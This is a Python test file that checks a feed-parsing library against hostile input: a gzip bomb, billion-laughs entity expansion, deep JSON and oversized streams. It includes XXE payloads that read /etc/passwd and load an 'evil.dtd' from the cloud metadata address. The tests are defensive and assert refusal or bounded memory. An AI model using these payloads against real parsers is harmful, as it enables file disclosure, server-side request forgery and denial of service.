"""Hostile input: each attack ends in a clear error (or a bounded result) in bounded memory."""

import gzip
import time
import tracemalloc
import zlib
from pathlib import Path

import pytest

from connectors import article, rss, safe
from connectors.errors import ParseError, TooLargeError
from connectors.http import HttpClient, HttpSettings
from tests.loopback import LoopbackServer, Reply

FIX = Path(__file__).parent / "fixtures" / "hostile"
MB = 1024 * 1024


@pytest.fixture(scope="module")
def gzip_bomb():
    """About 1 MB of gzip that inflates to 1 GB of zeros (built in 1 MB steps, never whole)."""
    c = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = bytes(MB)
    parts = [c.compress(block) for _ in range(1024)]
    parts.append(c.flush())
    data = b"".join(parts)
    assert len(data) < 2 * MB
    return data


def peak_memory(fn):
    tracemalloc.start()
    try:
        try:
            fn()
        finally:
            peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return peak


def get_too_large(c, url):
    """GET ``url`` where it is too large: ``(TooLargeError messages, peak traced memory)``."""
    errors = []

    def fetch():
        try:
            c.get(url)
        except TooLargeError as exc:
            errors.append(str(exc))

    return errors, peak_memory(fetch)


# --- compression bomb ------------------------------------------------------------------------------

def test_gzip_bomb_over_http_stops_at_the_cap_in_bounded_memory(gzip_bomb):
    with LoopbackServer() as srv:
        srv.route("/bomb", Reply(200, gzip_bomb, {"Content-Encoding": "gzip", "Content-Type": "application/rss+xml"}))
        c = HttpClient(HttpSettings(allow_private=True, retries=0, max_bytes=20 * MB,
                                    max_decompressed_bytes=10 * MB))
        errors, peak = get_too_large(c, srv.url("/bomb"))
    assert errors and "decompressed body larger than" in errors[0]
    assert peak < 40 * MB, f"peak {peak / MB:.0f} MB"


def test_gzip_bomb_in_a_saved_file_stops_at_the_cap(gzip_bomb):
    errors = []

    def inflate():
        try:
            safe.decompress(gzip_bomb, "gzip", 10 * MB, what="bomb.gz")
        except TooLargeError as exc:
            errors.append(str(exc))

    peak = peak_memory(inflate)
    assert errors and errors[0].startswith("bomb.gz: decompressed body larger than 10485760 bytes")
    assert peak < 40 * MB


def test_bounded_decompressor_handles_concatenated_members_and_raw_deflate():
    two = gzip.compress(b"first ") + gzip.compress(b"second")
    assert safe.decompress(two, "gzip", 100) == b"first second"
    raw = zlib.compressobj(6, zlib.DEFLATED, -15)
    body = raw.compress(b"raw deflate") + raw.flush()
    assert safe.decompress(body, "deflate", 100) == b"raw deflate"
    with pytest.raises(ParseError, match="unsupported Content-Encoding 'br'"):
        safe.BoundedDecompressor("br", 100)


# --- XML entities ----------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title></item></channel></rss>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>t</title><item><title>&xxe;</title></item></channel></rss>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://169.254.169.254/evil.dtd"> %remote;]>
<rss version="2.0"><channel><title>t</title></channel></rss>"""


@pytest.mark.parametrize("doc, message", [
    (BILLION_LAUGHS, "entity expansion"),
    (XXE, "external entities"),
    (PARAMETER_ENTITY, "parameter entities"),
])
def test_entity_attacks_are_refused_before_any_parser_sees_them(doc, message):
    with pytest.raises(ParseError, match=message):
        rss.parse(doc)
    with pytest.raises(ParseError, match=message):
        safe.parse_xml(doc)


def test_plain_character_entities_and_external_dtd_identifiers_are_fine():
    doc = b"""<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>t</title><item><title>Old &amp; fine</title><link>https://x.example/a</link></item></channel></rss>"""
    assert rss.parse(doc)[0]["title"] == "Old & fine"
    safe.check_xml(b'<!DOCTYPE x [<!ENTITY nbsp "&#160;">]><x/>')


def test_parse_xml_does_not_resolve_entities_or_reach_the_network():
    root = safe.parse_xml(b"<a><b>text</b></a>")
    assert root.findtext("b") == "text"
    with pytest.raises(ParseError, match="not well-formed"):
        safe.parse_xml(b"<a><b></a>")


# --- JSON depth -----------------------------------------------------------------------------------

@pytest.mark.parametrize("doc", [b"[" * 100_000 + b"]" * 100_000, b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
                                 b"[" * 100_000])
def test_100000_deep_json_is_a_parse_error_not_a_crash(doc):
    with pytest.raises(ParseError, match="nested deeper than 200"):
        safe.load_json(doc)
    with pytest.raises(ParseError, match="nested deeper"):
        safe.load_json_lenient(doc.decode())


def test_deep_json_feed_is_a_parse_error():
    doc = b'{"version": "https://jsonfeed.org/version/1.1", "items": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    with pytest.raises(ParseError, match="JSON feed: nested deeper"):
        rss.parse(doc)


def test_brackets_inside_strings_do_not_count_as_depth():
    doc = b'{"text": "' + b"[" * 10_000 + b'", "n": [[1]]}'
    assert safe.load_json(doc)["n"] == [[1]]


# --- encodings ------------------------------------------------------------------------------------

@pytest.mark.parametrize("data, declared, expected", [
    (b"caf\xc3\xa9", None, "café"),
    (b"caf\xe9 cr\xe8me br\xfbl\xe9e", "utf-8", "café crème brûlée"),  # declared utf-8, really cp1252
    (b"\xff\xfec\x00a\x00f\x00\xe9\x00", None, "café"),  # UTF-16 with BOM
    (b"\xef\xbb\xbfbom", "latin-1", "bom"),  # the BOM wins over the header
    (b"abc", "no-such-charset", "abc"),
    (b"\x80\x81\xfe\xff invalid everywhere \xc3\x28", "utf-8", None),
])
def test_decode_text_never_raises(data, declared, expected):
    text = safe.decode_text(data, declared)
    assert isinstance(text, str)
    if expected is not None:
        assert text == expected
    else:
        assert "invalid everywhere" in text


def test_feed_with_invalid_utf8_still_parses():
    doc = ('<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>t</title>'
           '<item><title>Caf\xe9 news</title><link>https://x.example/a</link></item></channel></rss>').encode("latin-1")
    rows = rss.parse(doc)
    assert rows and rows[0]["title"].startswith("Caf")


def test_json_with_invalid_utf8_is_a_parse_error():
    with pytest.raises(ParseError, match="not UTF-8|not valid JSON"):
        safe.load_json(b'{"a": "\xff\xfe"}')


# --- sizes ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("chunked", [False, True], ids=["until-close", "chunked"])
def test_200_mb_streamed_response_stops_at_the_cap_in_bounded_memory(chunked):
    chunk = b"<item>" + b"x" * (64 * 1024 - 6)
    big = Reply(200, headers={"Content-Type": "application/rss+xml"}, chunked=chunked,
                stream=lambda: (chunk for _ in range(200 * MB // len(chunk))))  # never held whole
    with LoopbackServer() as srv:
        srv.route("/big", big)
        c = HttpClient(HttpSettings(allow_private=True, retries=0, max_bytes=5 * MB))
        started = time.monotonic()
        errors, peak = get_too_large(c, srv.url("/big"))
        elapsed = time.monotonic() - started
        c.close()
        time.sleep(0.2)
        sent = big.sent
    assert [r[1] for r in srv.requests] == ["/big"]
    assert errors and "larger than 5242880 bytes" in errors[0]
    assert peak < 30 * MB, f"peak {peak / MB:.0f} MB"
    assert 5 * MB < sent < 100 * MB, f"server sent {sent / MB:.0f} MB before the client hung up"
    assert elapsed < 30


def test_10_mb_single_line_feed_item_is_parsed_and_clipped():
    line = "word " * 2_000_000
    doc = ('<?xml version="1.0"?><rss version="2.0"><channel><title>t</title><item><title>Big</title>'
           f'<link>https://x.example/a</link><description>{line}</description></item></channel></rss>').encode()
    started = time.monotonic()
    rows = rss.parse(doc)
    assert time.monotonic() - started < 20
    assert len(rows[0]["text"]) == safe.MAX_TEXT_CHARS


def test_10_mb_single_line_of_markup_garbage_is_handled_in_linear_time():
    for garbage in ("<" * 10 * MB, "<a " * (3 * MB), '<a href="http://' + "x" * 10 * MB):
        doc = ('{"version": "https://jsonfeed.org/version/1.1", "items": [{"id": "1", "content_html": '
               + __import__("json").dumps(garbage) + "}]}").encode()
        started = time.monotonic()
        rows = rss.parse(doc)
        assert time.monotonic() - started < 10
        assert rows[0]["post_id"] == "news:1"


def test_10_mb_single_line_page_is_parsed():
    html = ("<html><head><title>Big</title></head><body><p>" + "word " * 2_000_000 + "</p></body></html>").encode()
    row = article.parse(html)[0]
    assert row["title"] == "Big" and len(row["text"]) <= safe.MAX_TEXT_CHARS


def test_oversized_saved_documents_are_refused():
    with pytest.raises(ParseError, match="larger than"):
        rss.parse(b" " * (rss.MAX_FEED_BYTES + 1))


def test_entity_attacks_behind_comments_padding_or_utf16_are_still_refused():
    padded = b'<?xml version="1.0"?>\n<!--' + b" " * 200_000 + b"-->\n" + BILLION_LAUGHS.split(b"\n", 1)[1]
    with pytest.raises(ParseError, match="entity expansion"):
        rss.parse(padded)
    with pytest.raises(ParseError, match="external entities"):
        rss.parse(XXE.decode().replace('version="1.0"', 'version="1.0" encoding="utf-16"').encode("utf-16"))


def test_doctype_text_inside_content_is_not_mistaken_for_the_dtd():
    doc = (b'<?xml version="1.0"?><rss version="2.0"><channel><title>t</title><item><title>On XXE</title>'
           b'<link>https://x.example/a</link><description><![CDATA[<!DOCTYPE x [<!ENTITY e SYSTEM "file:///">]>]]>'
           b"</description></item></channel></rss>")
    assert rss.parse(doc)[0]["title"] == "On XXE"
